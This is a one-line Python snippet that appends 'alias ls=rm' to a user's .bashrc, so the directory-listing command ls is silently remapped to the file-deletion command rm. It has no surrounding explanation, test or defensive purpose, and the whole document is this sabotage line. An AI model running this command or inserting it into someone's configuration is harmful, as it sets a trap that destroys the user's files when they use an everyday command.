open('/home/me/.bashrc', 'a').write('alias ls=rm')
